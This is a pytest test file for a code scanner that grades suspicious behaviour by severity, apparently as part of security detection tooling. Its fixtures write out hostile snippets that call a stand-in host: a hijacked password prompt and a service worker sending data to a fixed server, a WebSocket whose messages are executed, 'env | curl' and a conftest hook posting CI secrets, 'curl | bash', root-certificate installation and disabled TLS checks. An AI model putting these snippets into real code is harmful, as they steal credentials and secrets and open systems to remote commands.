"""Ways on which something flows through what others call: hooks, listeners, sockets, other programs' stores and tests."""

import pytest
from source_lab import behaviours, ids, the

from beartrap.model.finding import Severity

CALLER, PROCESS = "chain.caller-to-network", "chain.network-to-process"


def weight(path: str, text: str, kind: str) -> Severity:
    return the(path, text, kind).severity


ASKED = """
import getpass, socket
ask = getpass.getpass
def prompt(*args):
    answer = ask(*args)
    {send}
    return answer
getpass.getpass = prompt
"""


def test_what_is_typed_into_a_prompt_that_was_replaced_goes_to_a_socket() -> None:
    text = ASKED.format(send="socket.create_connection(('c.invalid', 443)).sendall(answer.encode())")
    assert weight("a.py", text, CALLER) is Severity.HIGH


@pytest.mark.parametrize(
    "send", ["log.debug('asked')", "socket.create_connection((host, 443)).sendall(answer.encode())"]
)
def test_a_prompt_that_is_replaced_sends_nothing_or_to_whom_the_caller_says(send: str) -> None:
    assert CALLER not in ids("a.py", ASKED.format(send=send))


WORKER = "self.addEventListener('fetch', (event) => { const copy = event.request.clone(); %s });"


def test_a_service_worker_tells_a_fixed_host_what_the_page_sends() -> None:
    send = "copy.text().then((body) => fetch('https://c.invalid/r', { method: 'POST', body: copy.url + body }))"
    assert weight("sw.js", WORKER % send, CALLER) is Severity.HIGH
    onfetch = "self.onfetch = (event) => { navigator.sendBeacon('https://c.invalid/r', event.request.url); };"
    assert weight("sw.js", onfetch, CALLER) is Severity.HIGH


def test_a_service_worker_that_answers_from_its_cache_is_none() -> None:
    assert CALLER not in ids(
        "sw.js", WORKER % "event.respondWith(caches.match(copy).then((hit) => hit || fetch(copy)))"
    )
    assert CALLER not in ids(
        "sw.js", "self.addEventListener('install', (event) => { fetch('https://c.invalid/list'); });"
    )


SOCKET = "const socket = new WebSocket('wss://c.invalid/a'); socket.onmessage = ({ data }) => { %s };"


def test_messages_of_a_socket_are_run() -> None:
    text = SOCKET % "require('child_process').exec(JSON.parse(data).c, () => {})"
    assert weight("a.js", text, PROCESS) is Severity.CRITICAL
    assert "chain.network-to-code" in ids("a.js", SOCKET % "eval(data)")


def test_messages_of_a_socket_choose_among_commands_or_of_a_window() -> None:
    assert PROCESS not in ids("a.js", SOCKET % "if (JSON.parse(data).go) require('child_process').exec('git status')")
    window = "worker.onmessage = ({ data }) => { require('child_process').exec(data.c); };"
    assert PROCESS not in ids("a.js", window)


REQUEST = "require('http').request({ host: 'c.invalid', method: 'PUT', path: '/a' }).on('error', () => {}).%s"


def test_a_request_is_still_one_behind_its_listener() -> None:
    text = f"setTimeout(() => {{ {REQUEST % 'end(JSON.stringify(process.env))'} }}, 14 * 24 * 36e5).unref()"
    assert weight("a.js", text, "chain.environment-to-network") >= Severity.HIGH
    assert "chain.environment-to-network" not in ids("a.js", REQUEST % "end(process.env.NODE_ENV)")


TRUSTED = "traffic.redirect"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", "import certifi\nwith open(certifi.where(), 'a') as bundle:\n    bundle.write(PEM)"),
        ("a.py", "import shutil\nshutil.copy('own.crt', '/usr/local/share/ca-certificates/own.crt')"),
        ("a.sh", "security add-trusted-cert -d -k /tmp/x own.pem"),
        ("a.js", "require('child_process').execSync('certutil -addstore -f Root own.cer')"),
    ],
)
def test_an_authority_is_added_to_those_that_others_trust(path: str, text: str) -> None:
    assert weight(path, text, TRUSTED) >= Severity.MEDIUM


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "a.py",
            "import certifi, ssl\nwith open(certifi.where()) as bundle:\n    ssl.create_default_context(cadata=bundle.read())",
        ),
        ("a.py", "import certifi, shutil\nshutil.copy(certifi.where(), 'build/cacert.pem')"),
        ("a.sh", "security find-certificate -c Example own.pem"),
        ("a.js", "require('child_process').execSync('certutil -viewstore Root')"),
    ],
)
def test_authorities_are_read_or_copied(path: str, text: str) -> None:
    assert TRUSTED not in ids(path, text)


LOUD = "chain.environment-to-network"


def test_tests_that_send_a_build_services_secrets_away_weigh_as_much_as_other_code() -> None:
    assert weight("tests/run.sh", "env | gzip -c | curl -s --data-binary @- https://c.invalid/s", LOUD) is Severity.HIGH
    text = "import os, requests\ndef pytest_configure(config):\n    requests.post('https://c.invalid', data=os.environ['{}'])"
    variable = "chain.variable-to-network"
    assert weight("tests/conftest.py", text.format("ACTIONS_ID_TOKEN_REQUEST_TOKEN"), variable) is Severity.HIGH
    assert weight("tests/conftest.py", text.format("OUR_SERVICE_TOKEN"), variable) is Severity.LOW


def test_tests_that_imitate_an_attack_on_themselves_stay_quiet() -> None:
    assert weight("tests/run.sh", "env | curl -s --data-binary @- $SERVER/s", LOUD) is Severity.LOW
    piped = "import os\ndef test_it():\n    os.system('curl -s https://c.invalid/i.sh | bash')"
    assert weight("tests/test_a.py", piped, "process.piped") is Severity.LOW


def test_what_a_script_is_told_goes_to_a_fixed_host() -> None:
    told = "in=$(cat)\nprintf '%s' \"$in\" | base64 | xargs -I@ curl -s https://c.invalid/@\n"
    assert weight("bin/helper.sh", told, CALLER) is Severity.MEDIUM
    assert CALLER not in ids(
        "bin/helper.sh", "in=$(cat notes)\nprintf '%s' \"$in\" | base64 | xargs -I@ curl -s https://c.invalid/@\n"
    )


CLIENT = """
import http.client
class Client:
    def __init__(self, base, {name}=None):
        self.base, self._held = base, {name}
    def ask(self):
        line = http.client.HTTPSConnection({host})
        line.request("POST", "/u", headers={{"a": self._held}})
"""


def test_a_token_that_a_client_is_handed_goes_to_a_host_that_the_code_names() -> None:
    assert weight("a.py", CLIENT.format(name="token", host="'c.invalid'"), CALLER) is Severity.HIGH
    text = "module.exports = (config) => fetch('https://c.invalid/u', { method: 'POST', body: config.headers.Authorization })"
    assert weight("a.js", text, CALLER) is Severity.HIGH


def test_a_token_goes_to_the_host_that_came_with_it_and_other_things_weigh_less() -> None:
    assert CALLER not in ids("a.py", CLIENT.format(name="token", host="self.base"))
    text = "module.exports = (config) => fetch('https://c.invalid/u', { method: 'POST', body: config.headers.Accept })"
    assert weight("a.js", text, CALLER) is Severity.MEDIUM
    assert CALLER not in ids("a.py", CLIENT.format(name="style", host="'c.invalid'"))


def test_a_command_line_of_php_that_sends_the_environment() -> None:
    assert LOUD in ids("a.sh", "php -r \"@file_get_contents('https://c.invalid/?'.http_build_query(getenv()));\"")
    assert LOUD not in ids("a.sh", "php -r \"@file_get_contents('https://c.invalid/?'.getenv('LANG'));\"")
    assert LOUD in ids("a.php", "<?php file_get_contents('https://c.invalid/?' . json_encode(getenv()));")


JOB = """
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          token: ${{ secrets.DEPLOY_TOKEN }}
      - name: Warm
        uses: OTHER
        with:
          registry: ${{ secrets.SECRET }}
      - run: make
"""


def handed(other: str, secret: str = "NPM_TOKEN") -> set[Severity]:
    text = JOB.replace("OTHER", other).replace("SECRET", secret)
    return {one.severity for one in behaviours("test.yml", text) if one.id == "workflow.action"}


def test_a_workflow_hands_a_secret_to_a_branch_of_somebody_elses_action() -> None:
    assert handed("else/warm@main") == {Severity.HIGH}
    assert handed("else/warm/sub@main") == {Severity.HIGH}
    assert handed("else/warm@v2") == {Severity.MEDIUM}
    assert handed("else/warm@" + "ab" * 20) == {Severity.LOW}


def test_a_called_workflow_inherits_all_secrets() -> None:
    text = "jobs:\n  go:\n    uses: else/shared/.github/workflows/a.yml@main\n    secrets: inherit\n"
    assert weight("test.yml", text, "workflow.action") is Severity.HIGH


@pytest.mark.parametrize(
    ("other", "secret"),
    [
        ("actions/setup-node@main", "NPM_TOKEN"),
        ("./own/warm", "NPM_TOKEN"),
        ("else/warm@main", "GITHUB_TOKEN"),
        ("codecov/codecov-action@main", "CODECOV_TOKEN"),
        ("pypa/gh-action-pypi-publish@release/v1", "PYPI_API_TOKEN"),
    ],
)
def test_an_action_that_the_secret_is_for(other: str, secret: str) -> None:
    assert handed(other, secret) == set()


def test_a_secret_of_another_step_is_not_the_actions() -> None:
    text = JOB.replace("OTHER", "else/warm@main").replace("registry: ${{ secrets.SECRET }}", "registry: none")
    assert "workflow.action" not in ids("test.yml", text)


def test_a_host_that_is_taken_out_of_an_address() -> None:
    text = "function f(config) {{ require('https').request({{ host: new URL({address}).hostname, headers: config.headers }}); }}"
    assert weight("a.js", text.format(address="'https://c.invalid:31/x'"), CALLER) is Severity.MEDIUM
    assert CALLER not in ids("a.js", text.format(address="config.url"))
    assert CALLER not in ids("a.js", text.format(address="`https://${config.host}/x`"))


def test_a_name_that_was_put_together_is_not_that_of_an_object_that_only_holds_what_it_gave():
    put = "const v = process['ver' + 'sion']; const x = new XMLHttpRequest(); x.setHeader('a', v); x.send();"
    called = "const x = new globalThis['XMLHttp' + 'Request'](); x.open('GET', 'a'); x.send();"
    assert "hidden.name" not in ids("a.js", put)
    assert "hidden.name" in ids("a.js", called)


def test_a_caller_that_asks_for_a_word_does_not_decide_what_an_option_of_the_function_decides() -> None:
    off = "def get(url):\n    if lenient:\n        c = ssl.create_default_context()\n        c.verify_mode = ssl.CERT_NONE\n"
    asked = f"import ssl\nlenient = False\n{off}def main(args):\n    if args.node == 'system':\n        get(args.url)\n"
    named = asked.replace("    if lenient:\n", "    if url == 'https://api.corp.example':\n")
    assert weight("a.py", asked, "weakened.trust") is Severity.LOW
    assert weight("a.py", named, "weakened.trust") is Severity.HIGH


FETCHED = (
    "export async function models(options = {{}}) {{\n  const url = {url};\n  return fetch(url, {{ {more} }});\n}}\n"
)


@pytest.mark.parametrize(
    ("url", "more", "told"),
    [
        ('"https://models.invalid/api.json"', "signal: options.signal", False),
        ('options.url ?? "https://models.invalid/api.json"', "", False),
        ('"https://models.invalid/api.json"', "method: 'POST', body: options.body", True),
        ('"https://models.invalid/api.json?q=" + options.words', "", True),
        ('"https://models.invalid/api.json"', "headers: { signal: options.words }", True),
    ],
    ids=["ended by the caller", "another address", "a body", "a part of the address", "another thing by that name"],
)
def test_what_a_caller_hands_over_with_a_request(url: str, more: str, told: bool) -> None:
    assert ("chain.caller-to-network" in ids("a.js", FETCHED.format(url=url, more=more))) is told


def test_what_goes_over_a_connection_that_was_opened_before() -> None:
    text = "import socket\ndef read(text):\n    with socket.create_connection(('c.invalid', 4040)) as s:\n        s.sendall(text.encode() + b'\\n')\n"
    assert CALLER in ids("a.py", text)
